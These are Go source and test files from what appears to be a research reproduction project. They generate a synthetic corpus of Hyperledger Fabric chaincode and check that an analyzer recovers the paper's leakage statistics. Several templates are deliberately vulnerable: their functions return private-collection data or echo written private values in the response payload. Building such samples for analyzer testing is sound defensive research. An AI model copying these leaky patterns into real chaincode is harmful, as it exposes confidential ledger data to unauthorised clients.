// collectionsJSON renders a Fabric collections_config.json with the fixed
// keywords the analyzer (and the paper's tool) searches for.
func collectionsJSON(p project) string {
	var b strings.Builder
	b.WriteString("[\n  {\n")
	b.WriteString("    \"name\": \"collectionAssets\",\n")
	b.WriteString("    \"policy\": \"OR('Org1MSP.member', 'Org2MSP.member')\",\n")
	b.WriteString("    \"requiredPeerCount\": 0,\n")
	b.WriteString("    \"maxPeerCount\": 3,\n")
	b.WriteString("    \"blockToLive\": 0,\n")
	b.WriteString("    \"memberOnlyRead\": true")
	if p.collectionEP {
		b.WriteString(",\n    \"endorsementPolicy\": {\n      \"signaturePolicy\": \"AND('Org1MSP.peer', 'Org2MSP.peer')\"\n    }\n")
	} else {
		b.WriteString("\n")
	}
	b.WriteString("  }\n]\n")
	return b.String()
}

func configtxYAML(rule string) string {
	return fmt.Sprintf(`---
Organizations:
    - &Org1
        Name: Org1MSP
        ID: Org1MSP
        MSPDir: crypto-config/peerOrganizations/org1.example.com/msp

Application: &ApplicationDefaults
    Organizations:
    Policies:
        Readers:
            Type: ImplicitMeta
            Rule: "ANY Readers"
        Writers:
            Type: ImplicitMeta
            Rule: "ANY Writers"
        Admins:
            Type: ImplicitMeta
            Rule: "MAJORITY Admins"
        Endorsement:
            Type: ImplicitMeta
            Rule: "%s"
    Capabilities:
        V2_0: true
`, rule)
}

// goChaincode renders the project's Go chaincode: a public-data baseline
// plus — for explicit PDC projects — private-data functions whose
// leakiness matches the plan (the vulnerable variants follow the paper's
// Listing 2 and the Listing 1 pattern transliterated to Go).
func goChaincode(p project) string {
	var b strings.Builder
	b.WriteString(`package main

import (
	"fmt"

	"github.com/hyperledger/fabric-chaincode-go/shim"
)

// SmartContract manages assets on the channel ledger.
type SmartContract struct{}

func setPublic(stub shim.ChaincodeStubInterface, args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("Incorrect arguments. Expecting a key and a value")
	}
	return stub.PutState(args[0], []byte(args[1]))
}

func getPublic(stub shim.ChaincodeStubInterface, args []string) (string, error) {
	data, err := stub.GetState(args[0])
	if err != nil {
		return "", err
	}
	return string(data), nil
}
`)
	if !p.explicit {
		return b.String()
	}

	if p.readLeak {
		// Listing 1 pattern in Go: the private value is returned to
		// the client through the payload.
		b.WriteString(`
func readPrivateAsset(stub shim.ChaincodeStubInterface, args []string) (string, error) {
	if len(args) != 1 {
		return "", fmt.Errorf("Incorrect arguments. Expecting a key")
	}
	data, err := stub.GetPrivateData("collectionAssets", args[0])
	if err != nil {
		return "", fmt.Errorf("Failed to get asset: %s", args[0])
	}
	asset := string(data)
	return asset, nil
}
`)
	} else {
		// Clean read: validates existence without returning the value.
		b.WriteString(`
func auditPrivateAsset(stub shim.ChaincodeStubInterface, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("Incorrect arguments. Expecting a key")
	}
	data, err := stub.GetPrivateData("collectionAssets", args[0])
	if err != nil {
		return err
	}
	if data == nil {
		return fmt.Errorf("asset %s does not exist", args[0])
	}
	return stub.PutState("audit~"+args[0], []byte("seen"))
}
`)
	}

	if p.writeLeak {
		// Listing 2, verbatim shape: "return args[1], nil".
		b.WriteString(`
func setPrivate(stub shim.ChaincodeStubInterface, args []string) (string, error) {
	if len(args) != 2 {
		return "", fmt.Errorf("Incorrect arguments. Expecting a key and a value")
	}
	err := stub.PutPrivateData("demo", args[0], []byte(args[1]))
	if err != nil {
		return "", fmt.Errorf("Failed to set asset: %s", args[0])
	}
	return args[1], nil
}
`)
	} else {
		b.WriteString(`
func storePrivateAsset(stub shim.ChaincodeStubInterface, args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("Incorrect arguments. Expecting a key and a value")
	}
	return stub.PutPrivateData("collectionAssets", args[0], []byte(args[1]))
}
`)
	}
	return b.String()
}

// jsChaincode renders the project's JavaScript chaincode, with the
// vulnerable read function following the paper's Listing 1.
func jsChaincode(p project) string {
	var b strings.Builder
	b.WriteString(`'use strict';

const { Contract } = require('fabric-contract-api');

class AssetContract extends Contract {

    async setPublic(ctx, key, value) {
        await ctx.stub.putState(key, Buffer.from(value));
    }

    async getPublic(ctx, key) {
        const data = await ctx.stub.getState(key);
        return data.toString();
    }
`)
	if p.explicit {
		if p.readLeak {
			b.WriteString(`
    async readPrivatePerfTest(ctx, perfTestId) {
        const exists = await this.privatePerfTestExists(ctx, perfTestId);
        if (!exists) {
            throw new Error('The perf test ' + perfTestId + ' does not exist');
        }
        const buffer = await ctx.stub.getPrivateData('collectionAssets', perfTestId);
        const asset = JSON.parse(buffer.toString());
        return asset;
    }
`)
		} else {
			b.WriteString(`
    async auditPrivateAsset(ctx, id) {
        const buffer = await ctx.stub.getPrivateData('collectionAssets', id);
        if (!buffer || buffer.length === 0) {
            throw new Error('asset ' + id + ' does not exist');
        }
        await ctx.stub.putState('audit-' + id, Buffer.from('seen'));
    }
`)
		}
		if p.writeLeak {
			b.WriteString(`
    async setPrivate(ctx, key, value) {
        await ctx.stub.putPrivateData('demo', key, Buffer.from(value));
        return value;
    }
`)
		} else {
			b.WriteString(`
    async storePrivateAsset(ctx, key, value) {
        await ctx.stub.putPrivateData('collectionAssets', key, Buffer.from(value));
    }
`)
		}
	}
	b.WriteString(`}

module.exports = AssetContract;
`)
	return b.String()
}

// goImplicitChaincode renders chaincode using an implicit per-org
// collection; the function is deliberately non-leaking so implicit files
// never perturb the explicit-project leakage statistics.
func goImplicitChaincode() string {
	return `package main

import (
	"fmt"

	"github.com/hyperledger/fabric-chaincode-go/shim"
)

func storeOrgPrivate(stub shim.ChaincodeStubInterface, args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("Incorrect arguments. Expecting a key and a value")
	}
	collection := "_implicit_org_Org1MSP"
	return stub.PutPrivateData(collection, args[0], []byte(args[1]))
}
`
}
