package corpus

import (
	"testing"

	"repro/internal/analyzer"
)

func TestSpecValidation(t *testing.T) {
	if err := PaperSpec().Validate(); err != nil {
		t.Fatalf("paper spec invalid: %v", err)
	}
	if err := TinySpec().Validate(); err != nil {
		t.Fatalf("tiny spec invalid: %v", err)
	}

	bad := PaperSpec()
	bad.TotalProjects = 100
	if err := bad.Validate(); err == nil {
		t.Fatal("mismatched totals not rejected")
	}

	bad = PaperSpec()
	bad.WriteLeakAlso = bad.ReadLeak + 1
	if err := bad.Validate(); err == nil {
		t.Fatal("write-leak > read-leak not rejected")
	}
}

// TestTinyCorpusEndToEnd generates a small corpus and checks the analyzer
// recovers the planned counts exactly.
func TestTinyCorpusEndToEnd(t *testing.T) {
	spec := TinySpec()
	root := t.TempDir()
	n, err := Generate(root, spec)
	if err != nil {
		t.Fatalf("generate: %v", err)
	}
	if n != spec.TotalProjects {
		t.Fatalf("generated %d projects, want %d", n, spec.TotalProjects)
	}

	report, err := analyzer.ScanCorpus(root)
	if err != nil {
		t.Fatalf("scan: %v", err)
	}

	explicit := spec.ExplicitOnly + spec.Both
	checks := []struct {
		name string
		got  int
		want int
	}{
		{"total", report.Total, spec.TotalProjects},
		{"explicit", report.ExplicitPDC, explicit},
		{"implicit", report.ImplicitPDC, spec.Both + spec.ImplicitOnly},
		{"both", report.BothPDC, spec.Both},
		{"implicit-only", report.ImplicitOnly, spec.ImplicitOnly},
		{"pdc-total", report.PDCTotal, spec.ExplicitOnly + spec.Both + spec.ImplicitOnly},
		{"chaincode-level", report.ChaincodeLevelPolicy, explicit - spec.WithCollectionEP},
		{"collection-level", report.CollectionLevelPolicy, spec.WithCollectionEP},
		{"configtx", report.ConfigtxFound, spec.WithConfigtx},
		{"configtx-majority", report.ConfigtxMajority, spec.MajorityConfigtx},
		{"read-leak", report.ReadLeak, spec.ReadLeak},
		{"read-write-leak", report.ReadWriteLeak, spec.WriteLeakAlso},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %d, want %d", c.name, c.got, c.want)
		}
	}

	for y, want := range spec.YearTotals {
		if got := report.ByYear[y]; got != want {
			t.Errorf("year %d: %d projects, want %d", y, got, want)
		}
	}
	for y, want := range spec.PDCYearTotals {
		if got := report.PDCByYear[y]; got != want {
			t.Errorf("year %d: %d PDC projects, want %d", y, got, want)
		}
	}
}

// TestPaperCorpusReproduces generates the full 6392-project corpus and
// checks the analyzer reproduces the paper's §V-C2 headline numbers.
func TestPaperCorpusReproduces(t *testing.T) {
	if testing.Short() {
		t.Skip("full corpus (6392 projects) skipped in -short")
	}
	root := t.TempDir()
	spec := PaperSpec()
	if _, err := Generate(root, spec); err != nil {
		t.Fatalf("generate: %v", err)
	}
	report, err := analyzer.ScanCorpus(root)
	if err != nil {
		t.Fatalf("scan: %v", err)
	}
	if report.Total != 6392 {
		t.Fatalf("total = %d, want 6392", report.Total)
	}
	if report.ExplicitPDC != 252 || report.ImplicitPDC != 35 || report.BothPDC != 31 {
		t.Fatalf("PDC split = %d/%d/%d, want 252/35/31",
			report.ExplicitPDC, report.ImplicitPDC, report.BothPDC)
	}
	if got := report.VulnerableToInjectionPct(); got != "86.51%" {
		t.Errorf("injection vulnerability = %s, want 86.51%%", got)
	}
	if got := report.LeakagePct(); got != "91.67%" {
		t.Errorf("leakage = %s, want 91.67%%", got)
	}
	if report.ConfigtxFound != 120 || report.ConfigtxMajority != 116 {
		t.Errorf("configtx = %d/%d, want 120/116", report.ConfigtxFound, report.ConfigtxMajority)
	}
}

// TestGenerateDeterministic: two generations with the same seed yield
// corpora with identical analyzer aggregates.
func TestGenerateDeterministic(t *testing.T) {
	spec := TinySpec()
	r1, r2 := t.TempDir(), t.TempDir()
	if _, err := Generate(r1, spec); err != nil {
		t.Fatal(err)
	}
	if _, err := Generate(r2, spec); err != nil {
		t.Fatal(err)
	}
	a, err := analyzer.ScanCorpus(r1)
	if err != nil {
		t.Fatal(err)
	}
	b, err := analyzer.ScanCorpus(r2)
	if err != nil {
		t.Fatal(err)
	}
	if a.ReadLeak != b.ReadLeak || a.ConfigtxMajority != b.ConfigtxMajority ||
		a.ExplicitPDC != b.ExplicitPDC || a.PDCByYear[2020] != b.PDCByYear[2020] {
		t.Fatalf("non-deterministic generation: %+v vs %+v", a, b)
	}
}
