// Package corpus generates a synthetic GitHub-corpus on disk for the
// static analyzer to scan, substituting for the 6392 GitHub projects the
// paper collected (which are not available offline).
//
// The generator writes real file trees — collection configuration JSON,
// configtx.yaml, Go and JavaScript chaincode with vulnerable and clean
// patterns modeled on the paper's Listings 1 and 2 — so the analyzer
// exercises exactly the code paths it would on real projects. Category
// counts default to the paper's published totals (252 explicit PDC
// projects, 35 implicit, 31 both, 218 on the chaincode-level policy,
// 116/120 MAJORITY configtx files, 231 read-leaking, 20 also
// write-leaking); every reported percentage is then *recomputed* by the
// analyzer from the generated files.
package corpus

import (
	"fmt"
	"math/rand"
	"os"
)

// Spec parameterizes corpus generation. The zero value is not useful;
// start from PaperSpec.
type Spec struct {
	// TotalProjects is the corpus size.
	TotalProjects int
	// YearTotals maps year -> number of projects created that year;
	// must sum to TotalProjects.
	YearTotals map[int]int
	// PDCYearTotals maps year -> number of PDC projects; must sum to
	// ExplicitOnly+Both+ImplicitOnly and be <= YearTotals per year.
	PDCYearTotals map[int]int

	// ExplicitOnly, Both and ImplicitOnly partition the PDC projects by
	// definition style.
	ExplicitOnly int
	Both         int
	ImplicitOnly int

	// WithCollectionEP is how many explicit projects customize a
	// collection-level endorsement policy.
	WithCollectionEP int
	// WithConfigtx is how many chaincode-level explicit projects ship a
	// configtx.yaml; MajorityConfigtx of them use MAJORITY Endorsement
	// (the rest use ANY Endorsement).
	WithConfigtx     int
	MajorityConfigtx int

	// ReadLeak is how many explicit projects leak private data through
	// PDC read functions; WriteLeakAlso of them additionally leak
	// through write functions.
	ReadLeak      int
	WriteLeakAlso int

	// Seed drives the deterministic attribute shuffle.
	Seed int64
}

// PaperSpec returns the corpus specification matching the paper's §V-C2
// totals. Per-year figures are not tabulated in the paper (Fig. 7 is a
// bar chart); the defaults below reproduce its shape: sharp growth with
// most projects in 2019–2020, and PDC usage starting in 2018.
func PaperSpec() Spec {
	return Spec{
		TotalProjects: 6392,
		YearTotals: map[int]int{
			2016: 150, 2017: 520, 2018: 1100, 2019: 2000, 2020: 2622,
		},
		PDCYearTotals: map[int]int{
			2018: 20, 2019: 80, 2020: 156,
		},
		ExplicitOnly:     221,
		Both:             31,
		ImplicitOnly:     4,
		WithCollectionEP: 34,
		WithConfigtx:     120,
		MajorityConfigtx: 116,
		ReadLeak:         231,
		WriteLeakAlso:    20,
		Seed:             2021,
	}
}

// TinySpec returns a small corpus with the same proportions, for tests.
func TinySpec() Spec {
	return Spec{
		TotalProjects: 64,
		YearTotals: map[int]int{
			2016: 2, 2017: 6, 2018: 11, 2019: 20, 2020: 25,
		},
		PDCYearTotals: map[int]int{
			2018: 2, 2019: 8, 2020: 15,
		},
		ExplicitOnly:     21,
		Both:             3,
		ImplicitOnly:     1,
		WithCollectionEP: 4,
		WithConfigtx:     12,
		MajorityConfigtx: 11,
		ReadLeak:         22,
		WriteLeakAlso:    2,
		Seed:             7,
	}
}

// Validate checks internal consistency.
func (s Spec) Validate() error {
	sumYears := 0
	for _, n := range s.YearTotals {
		sumYears += n
	}
	if sumYears != s.TotalProjects {
		return fmt.Errorf("corpus: year totals sum %d != total %d", sumYears, s.TotalProjects)
	}
	pdc := s.ExplicitOnly + s.Both + s.ImplicitOnly
	sumPDC := 0
	for y, n := range s.PDCYearTotals {
		if n > s.YearTotals[y] {
			return fmt.Errorf("corpus: year %d has more PDC (%d) than projects (%d)", y, n, s.YearTotals[y])
		}
		sumPDC += n
	}
	if sumPDC != pdc {
		return fmt.Errorf("corpus: PDC year totals sum %d != PDC projects %d", sumPDC, pdc)
	}
	explicit := s.ExplicitOnly + s.Both
	if s.WithCollectionEP > explicit {
		return fmt.Errorf("corpus: collection-EP projects %d > explicit %d", s.WithCollectionEP, explicit)
	}
	if s.WithConfigtx > explicit-s.WithCollectionEP {
		return fmt.Errorf("corpus: configtx projects %d > chaincode-level %d", s.WithConfigtx, explicit-s.WithCollectionEP)
	}
	if s.MajorityConfigtx > s.WithConfigtx {
		return fmt.Errorf("corpus: MAJORITY configtx %d > configtx %d", s.MajorityConfigtx, s.WithConfigtx)
	}
	if s.ReadLeak > explicit {
		return fmt.Errorf("corpus: read-leak projects %d > explicit %d", s.ReadLeak, explicit)
	}
	if s.WriteLeakAlso > s.ReadLeak {
		return fmt.Errorf("corpus: write-leak projects %d > read-leak %d", s.WriteLeakAlso, s.ReadLeak)
	}
	return nil
}

// project is the generation plan for one project directory.
type project struct {
	name     string
	year     int
	explicit bool
	implicit bool
	// Attributes of explicit projects.
	collectionEP bool
	configtx     string // "", "MAJORITY Endorsement", "ANY Endorsement"
	readLeak     bool
	writeLeak    bool
	// useJS selects JavaScript chaincode instead of Go.
	useJS bool
}

// Generate writes the corpus under root (which must exist or be
// creatable) and returns the number of projects written.
func Generate(root string, spec Spec) (int, error) {
	if err := spec.Validate(); err != nil {
		return 0, err
	}
	if err := os.MkdirAll(root, 0o755); err != nil {
		return 0, fmt.Errorf("corpus: create root: %w", err)
	}
	plans := plan(spec)
	for _, p := range plans {
		if err := writeProject(root, p); err != nil {
			return 0, err
		}
	}
	return len(plans), nil
}

// plan builds the full project list with attributes assigned per spec.
func plan(spec Spec) []project {
	rng := rand.New(rand.NewSource(spec.Seed))

	// PDC projects first: explicit-only, both, implicit-only.
	nPDC := spec.ExplicitOnly + spec.Both + spec.ImplicitOnly
	pdcPlans := make([]project, 0, nPDC)
	for i := 0; i < spec.ExplicitOnly; i++ {
		pdcPlans = append(pdcPlans, project{explicit: true})
	}
	for i := 0; i < spec.Both; i++ {
		pdcPlans = append(pdcPlans, project{explicit: true, implicit: true})
	}
	for i := 0; i < spec.ImplicitOnly; i++ {
		pdcPlans = append(pdcPlans, project{implicit: true})
	}

	// Assign explicit attributes across the explicit projects. The
	// shuffle decorrelates attribute groups without changing counts.
	explicitIdx := make([]int, 0, spec.ExplicitOnly+spec.Both)
	for i, p := range pdcPlans {
		if p.explicit {
			explicitIdx = append(explicitIdx, i)
		}
	}
	rng.Shuffle(len(explicitIdx), func(i, j int) {
		explicitIdx[i], explicitIdx[j] = explicitIdx[j], explicitIdx[i]
	})
	for k := 0; k < spec.WithCollectionEP; k++ {
		pdcPlans[explicitIdx[k]].collectionEP = true
	}
	// configtx goes to chaincode-level (non-EP) projects.
	ccLevel := explicitIdx[spec.WithCollectionEP:]
	for k := 0; k < spec.WithConfigtx; k++ {
		rule := "ANY Endorsement"
		if k < spec.MajorityConfigtx {
			rule = "MAJORITY Endorsement"
		}
		pdcPlans[ccLevel[k]].configtx = rule
	}
	// Leak attributes over a fresh shuffle of explicit projects.
	rng.Shuffle(len(explicitIdx), func(i, j int) {
		explicitIdx[i], explicitIdx[j] = explicitIdx[j], explicitIdx[i]
	})
	for k := 0; k < spec.ReadLeak; k++ {
		pdcPlans[explicitIdx[k]].readLeak = true
		if k < spec.WriteLeakAlso {
			pdcPlans[explicitIdx[k]].writeLeak = true
		}
	}

	// Assign PDC projects to years.
	rng.Shuffle(len(pdcPlans), func(i, j int) { pdcPlans[i], pdcPlans[j] = pdcPlans[j], pdcPlans[i] })
	years := sortedYears(spec.PDCYearTotals)
	idx := 0
	for _, y := range years {
		for k := 0; k < spec.PDCYearTotals[y]; k++ {
			pdcPlans[idx].year = y
			idx++
		}
	}

	// Non-PDC projects fill the remaining per-year counts.
	var plans []project
	plans = append(plans, pdcPlans...)
	for _, y := range sortedYears(spec.YearTotals) {
		rest := spec.YearTotals[y] - spec.PDCYearTotals[y]
		for k := 0; k < rest; k++ {
			plans = append(plans, project{year: y})
		}
	}

	// Names, language choice.
	for i := range plans {
		plans[i].name = fmt.Sprintf("proj-%05d", i+1)
		plans[i].useJS = rng.Intn(2) == 0
	}
	return plans
}

func sortedYears(m map[int]int) []int {
	out := make([]int, 0, len(m))
	for y := range m {
		out = append(out, y)
	}
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j-1] > out[j]; j-- {
			out[j-1], out[j] = out[j], out[j-1]
		}
	}
	return out
}
