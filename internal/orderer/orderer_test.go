package orderer

import (
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"repro/internal/ledger"
	"repro/internal/metrics"
)

func tx(id string) *ledger.Transaction {
	return &ledger.Transaction{
		TxID:            id,
		ChannelID:       "c1",
		Proposal:        &ledger.Proposal{TxID: id},
		ResponsePayload: []byte(`{"tx_id":"` + id + `"}`),
	}
}

func TestOrderingAndDelivery(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 1, Seed: 1})
	var mu sync.Mutex
	var delivered []*ledger.Block
	svc.RegisterDelivery(func(b *ledger.Block) {
		mu.Lock()
		defer mu.Unlock()
		delivered = append(delivered, b)
	})

	for i := 0; i < 3; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("tx%d", i))); err != nil {
			t.Fatalf("submit %d: %v", i, err)
		}
	}
	if len(delivered) != 3 {
		t.Fatalf("delivered %d blocks", len(delivered))
	}
	for i, b := range delivered {
		if b.Header.Number != uint64(i) {
			t.Fatalf("block %d numbered %d", i, b.Header.Number)
		}
		if len(b.Transactions) != 1 || b.Transactions[i%1].TxID != fmt.Sprintf("tx%d", i) {
			t.Fatalf("block %d contents wrong", i)
		}
		if !b.VerifyDataHash() {
			t.Fatalf("block %d data hash broken", i)
		}
	}
	if svc.Height() != 3 {
		t.Fatalf("height = %d", svc.Height())
	}
}

func TestBatchingAndFlush(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 3, Seed: 2})
	var delivered []*ledger.Block
	svc.RegisterDelivery(func(b *ledger.Block) { delivered = append(delivered, b) })

	_ = svc.Submit(tx("a"))
	_ = svc.Submit(tx("b"))
	if len(delivered) != 0 {
		t.Fatal("block cut before batch size")
	}
	_ = svc.Submit(tx("c"))
	if len(delivered) != 1 || len(delivered[0].Transactions) != 3 {
		t.Fatalf("batch cut wrong: %d blocks", len(delivered))
	}

	// Flush cuts a partial batch (the BatchTimeout path).
	_ = svc.Submit(tx("d"))
	svc.Flush()
	if len(delivered) != 2 || len(delivered[1].Transactions) != 1 {
		t.Fatalf("flush cut wrong")
	}
	svc.Flush() // empty flush is a no-op
	if len(delivered) != 2 {
		t.Fatal("empty flush cut a block")
	}
}

func TestBlocksChainAcrossBatches(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 1, Seed: 3})
	var blocks []*ledger.Block
	svc.RegisterDelivery(func(b *ledger.Block) { blocks = append(blocks, b) })
	_ = svc.Submit(tx("a"))
	_ = svc.Submit(tx("b"))

	if got, want := string(blocks[1].Header.PrevHash), string(blocks[0].Hash()); got != want {
		t.Fatal("blocks do not chain")
	}
}

func TestEachPeerGetsOwnClone(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 4})
	var b1, b2 *ledger.Block
	svc.RegisterDelivery(func(b *ledger.Block) { b1 = b })
	svc.RegisterDelivery(func(b *ledger.Block) { b2 = b })
	_ = svc.Submit(tx("a"))
	if b1 == b2 {
		t.Fatal("peers share a block instance")
	}
	b1.Metadata.ValidationFlags[0] = ledger.MVCCConflict
	if b2.Metadata.ValidationFlags[0] == ledger.MVCCConflict {
		t.Fatal("validation flags shared across peers")
	}
}

// TestLeaderCrashMidStream crashes the raft leader between submissions;
// ordering must continue through the re-elected leader.
func TestLeaderCrashMidStream(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 1, Seed: 5})
	var delivered []*ledger.Block
	svc.RegisterDelivery(func(b *ledger.Block) { delivered = append(delivered, b) })

	if err := svc.Submit(tx("before")); err != nil {
		t.Fatal(err)
	}
	crashed := svc.CrashLeader()
	if crashed == "" {
		t.Fatal("no leader to crash")
	}
	if err := svc.Submit(tx("after")); err != nil {
		t.Fatalf("submit after leader crash: %v", err)
	}
	if len(delivered) != 2 {
		t.Fatalf("delivered %d blocks", len(delivered))
	}
	if delivered[1].Transactions[0].TxID != "after" {
		t.Fatal("post-crash transaction lost")
	}
	svc.RestartNode(crashed)
	if err := svc.Submit(tx("final")); err != nil {
		t.Fatal(err)
	}
	if len(delivered) != 3 {
		t.Fatal("post-restart submission lost")
	}
}

func TestOrdererDoesNotInspectContent(t *testing.T) {
	// Orderers bundle blindly: a transaction with a bogus payload is
	// ordered fine (validation happens at peers).
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 6})
	var delivered []*ledger.Block
	svc.RegisterDelivery(func(b *ledger.Block) { delivered = append(delivered, b) })
	bogus := tx("bogus")
	bogus.ResponsePayload = []byte("not-even-json")
	if err := svc.Submit(bogus); err != nil {
		t.Fatalf("orderer rejected content: %v", err)
	}
	if len(delivered) != 1 {
		t.Fatal("bogus tx not delivered")
	}
}

func TestBatchTimeoutCutsPartialBatch(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 100, BatchTimeout: 20 * time.Millisecond, Seed: 7})
	blockCh := make(chan *ledger.Block, 1)
	svc.RegisterDelivery(func(b *ledger.Block) { blockCh <- b })

	if err := svc.Submit(tx("timed")); err != nil {
		t.Fatal(err)
	}
	select {
	case b := <-blockCh:
		if len(b.Transactions) != 1 || b.Transactions[0].TxID != "timed" {
			t.Fatalf("timeout block wrong: %+v", b)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("BatchTimeout did not cut a block")
	}
	// No further block appears (timer disarmed).
	select {
	case <-blockCh:
		t.Fatal("spurious second block")
	case <-time.After(60 * time.Millisecond):
	}
}

// TestRetainBlocksBoundsDeliverWindow: with RetainBlocks set the orderer
// keeps only the newest N blocks; Deliver serves from the window, returns
// nil for evicted history, and Subscribe's backlog starts at the window.
func TestRetainBlocksBoundsDeliverWindow(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 9, RetainBlocks: 3})
	for i := 0; i < 8; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("r%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	if svc.Height() != 8 {
		t.Fatalf("height = %d", svc.Height())
	}
	if got, err := svc.Deliver(0); !errors.Is(err, ErrCompacted) {
		t.Fatalf("Deliver(0) = %d blocks, err %v, want ErrCompacted", len(got), err)
	}
	if got, err := svc.Deliver(4); !errors.Is(err, ErrCompacted) {
		t.Fatalf("Deliver(4) = %d blocks, err %v, want ErrCompacted", len(got), err)
	}
	if got, err := svc.Deliver(8); got != nil || err != nil {
		t.Fatalf("Deliver(at tip) = %d blocks, err %v, want empty and nil", len(got), err)
	}
	window, err := svc.Deliver(5)
	if err != nil {
		t.Fatal(err)
	}
	if len(window) != 3 {
		t.Fatalf("Deliver(5) returned %d blocks, want 3", len(window))
	}
	for i, b := range window {
		if b.Header.Number != uint64(5+i) {
			t.Fatalf("window block %d numbered %d", i, b.Header.Number)
		}
	}
	backlog, _ := svc.Subscribe(func(*ledger.Block) {})
	if len(backlog) != 3 || backlog[0].Header.Number != 5 {
		t.Fatalf("Subscribe backlog wrong: %d blocks", len(backlog))
	}
	if svc.Metrics()[metrics.OrdererBlocksEvicted] != 5 {
		t.Fatalf("evicted counter = %d", svc.Metrics()[metrics.OrdererBlocksEvicted])
	}
}

// TestSubscribeFromDistinguishesCompactedFromTip: SubscribeFrom returns
// ErrCompacted (and registers nothing) below the retained window, an
// empty backlog with a live subscription at the tip, and the retained
// suffix in between.
func TestSubscribeFromDistinguishesCompactedFromTip(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 11, RetainBlocks: 3})
	for i := 0; i < 8; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("s%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	if _, _, err := svc.SubscribeFrom(2, func(*ledger.Block) {}); !errors.Is(err, ErrCompacted) {
		t.Fatalf("SubscribeFrom(2) err = %v, want ErrCompacted", err)
	}
	backlog, sub, err := svc.SubscribeFrom(6, func(*ledger.Block) {})
	if err != nil {
		t.Fatal(err)
	}
	sub.Close()
	if len(backlog) != 2 || backlog[0].Header.Number != 6 {
		t.Fatalf("SubscribeFrom(6) backlog wrong: %d blocks", len(backlog))
	}
	live := make(chan *ledger.Block, 1)
	backlog, sub, err = svc.SubscribeFrom(8, func(b *ledger.Block) { live <- b })
	if err != nil || len(backlog) != 0 {
		t.Fatalf("SubscribeFrom(tip) = %d blocks, err %v", len(backlog), err)
	}
	defer sub.Close()
	if err := svc.Submit(tx("tip")); err != nil {
		t.Fatal(err)
	}
	select {
	case b := <-live:
		if b.Header.Number != 8 {
			t.Fatalf("live block numbered %d", b.Header.Number)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("tip subscription never went live")
	}
	if got := svc.FirstBlock(); got != 6 {
		t.Fatalf("FirstBlock = %d, want 6", got)
	}
}

// TestRetainBlocksCompactsRaftLog: RetainBlocks alone (no
// SnapshotInterval) triggers raft log compaction in step with block
// eviction, once the registered subscriber has drained — the bounded-log
// half of the snapshot-join story.
func TestRetainBlocksCompactsRaftLog(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 1, Seed: 12, RetainBlocks: 2})
	svc.RegisterDelivery(func(*ledger.Block) {})
	for i := 0; i < 6; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("c%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	// Submit waits for delivery, so by the round after the first eviction
	// the queue was observed empty and the drain-gated compaction fired.
	leader, err := svc.Cluster().ElectLeader(200)
	if err != nil {
		t.Fatal(err)
	}
	if leader.FirstIndex() == 0 {
		t.Fatal("raft log never compacted despite RetainBlocks evictions")
	}
	if err := svc.Submit(tx("post")); err != nil {
		t.Fatal(err)
	}
	if svc.Height() != 7 {
		t.Fatalf("height = %d", svc.Height())
	}
}

// TestUnboundedRetentionByDefault: the zero config keeps every block, so
// Deliver(0) replays the whole chain — the pre-retention behavior.
func TestUnboundedRetentionByDefault(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 10})
	for i := 0; i < 5; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("u%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	if got, err := svc.Deliver(0); err != nil || len(got) != 5 {
		t.Fatalf("Deliver(0) returned %d blocks, err %v, want 5", len(got), err)
	}
	if n := svc.Metrics()[metrics.OrdererBlocksEvicted]; n != 0 {
		t.Fatalf("evicted %d blocks with unbounded retention", n)
	}
}

func TestSnapshotIntervalCompactsRaftLog(t *testing.T) {
	svc := New(Config{OrdererCount: 3, BatchSize: 1, Seed: 8, SnapshotInterval: 2})
	svc.RegisterDelivery(func(*ledger.Block) {})
	for i := 0; i < 6; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("t%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	leader, err := svc.Cluster().ElectLeader(200)
	if err != nil {
		t.Fatal(err)
	}
	if leader.FirstIndex() == 0 {
		t.Fatal("raft log never compacted despite SnapshotInterval")
	}
	// Ordering continues after compaction.
	if err := svc.Submit(tx("post")); err != nil {
		t.Fatal(err)
	}
	if svc.Height() != 7 {
		t.Fatalf("height = %d", svc.Height())
	}
}

// TestSubscriptionCloseStopsDelivery: closing the handle returned by
// Subscribe deregisters the handler — later blocks are neither cloned
// nor queued for it — while Submit's delivery accounting still settles.
func TestSubscriptionCloseStopsDelivery(t *testing.T) {
	svc := New(Config{OrdererCount: 1, BatchSize: 1, Seed: 9, DeliveryQueueBound: 1})
	var mu sync.Mutex
	var nums []uint64
	backlog, sub := svc.Subscribe(func(b *ledger.Block) {
		mu.Lock()
		defer mu.Unlock()
		nums = append(nums, b.Header.Number)
	})
	if len(backlog) != 0 {
		t.Fatalf("backlog holds %d blocks on a fresh service", len(backlog))
	}
	if err := svc.Submit(tx("before")); err != nil {
		t.Fatal(err)
	}
	sub.Close()
